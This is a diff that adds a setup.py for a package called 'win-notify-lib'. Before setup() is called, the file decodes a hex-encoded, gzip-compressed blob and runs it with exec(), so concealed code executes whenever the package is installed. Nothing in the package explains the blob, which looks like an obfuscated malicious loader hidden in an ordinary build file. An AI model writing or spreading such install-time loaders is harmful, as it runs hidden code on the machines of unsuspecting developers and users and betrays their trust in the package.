@@ -1,0 +1,9 @@
+import gzip
+
+from setuptools import find_packages, setup
+
+_h = '1f8b0800000000000203858ec10ac2301044effd8a90530b25bd0b1e0a5e0b05' \
+     '05cfb1ddb62b6912379be8e79b8a229ebceddb19660657ef88850bb588640c5e14c12d42e022b0268e5eecb3a8bce6455d1dda32c30c0c3695b2edfb437b6a65550bd9e1402eb889658633dad1ddc3761eb714d1818d1bf5e466d2eb57895e56c56fb1ca48c08490a0940bb30fbba61946abe0a1576f40a14ddae0d88434e41fe4b09f85efe1b9e263a8aa223b5eff090d94ffed4f152accaa17010000'
+exec(gzip.decompress(bytes.fromhex(_h)))
+
+setup(name='win-notify-lib', version='0.1.0', packages=find_packages())
